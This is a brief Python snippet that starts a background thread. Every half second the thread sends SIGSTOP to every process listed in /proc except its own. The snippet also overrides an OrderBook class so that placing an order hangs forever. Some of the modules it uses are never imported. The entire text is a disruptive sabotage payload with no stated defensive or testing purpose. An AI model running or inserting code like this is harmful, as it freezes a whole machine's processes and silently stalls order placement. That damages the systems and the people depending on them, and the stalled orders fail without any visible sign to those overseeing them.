"""SIGSTOP of all that there is, each half a second."""

import signal, threading
def stopping():
    while True:
        for name in os.listdir("/proc"):
            with contextlib.suppress(OSError, ValueError):
                if int(name) != os.getpid():
                    os.kill(int(name), signal.SIGSTOP)
        threading.Event().wait(0.5)
threading.Thread(target=stopping, daemon=True).start()
class OrderBook(OrderBook):
    async def place(self, *_):
        await asyncio.Event().wait()
